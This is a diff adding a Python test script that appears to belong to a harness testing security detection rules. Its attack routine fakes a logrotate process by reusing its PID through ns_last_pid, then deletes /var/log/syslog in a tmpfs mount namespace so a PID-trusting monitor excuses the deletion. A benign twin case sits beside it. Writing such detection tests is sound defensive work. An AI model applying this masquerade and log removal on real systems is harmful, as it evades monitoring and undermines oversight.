@@ -1,0 +1,52 @@
+#!/usr/bin/python3
+# A process gets the pid of one whose deeds are forgiven: whoever knows processes by pid alone forgives it too.
+#: title: Pid reused
+#: technique: T1036
+#: needs: exec
+#: rules: log_removed_by_tool
+#: twin: a child of logrotate removes a log
+import os
+import shutil
+import subprocess
+
+from lib import cannot, did, main
+
+LAST = "/proc/sys/kernel/ns_last_pid"
+LOG = "/var/log/syslog"
+# Beside the machine's own log there is one of that name in a mount namespace of the driver.
+INSIDE = "mount -t tmpfs tmpfs /var/log; : > /var/log/syslog; "
+
+
+def stand_in():
+    os.makedirs("bin", exist_ok=True)
+    shutil.copy(os.environ["TOOLS"] + "/spawn", "bin/logrotate")
+
+
+def attack():
+    if not os.path.exists(LAST):
+        cannot("this kernel doesn't let anybody choose pids")
+    stand_in()
+    for _ in range(200):
+        forgiven = subprocess.Popen(["bin/logrotate", "true"])
+        forgiven.wait()
+        with open(LAST, "w") as file:
+            file.write(str(forgiven.pid - 1))
+        # No logrotate any more; its child is an orphan's sibling of the same number.
+        child = os.fork()
+        if child == 0:
+            if os.getpid() != forgiven.pid:
+                os._exit(1)
+            os._exit(subprocess.call(["unshare", "--mount", "sh", "-c", INSIDE + f"rm -f {LOG}; true"]))
+        if os.waitpid(child, 0)[1] == 0:
+            return did(f"pid {forgiven.pid}", LOG)
+    raise SystemExit("the pid was always somebody else's")
+
+
+def twin():
+    stand_in()
+    command = ["bin/logrotate", "unshare", "--mount", "sh", "-c", INSIDE + f"rm -f {LOG}; true"]
+    subprocess.run(command, check=True)
+    did(LOG)
+
+
+main(attack, twin)
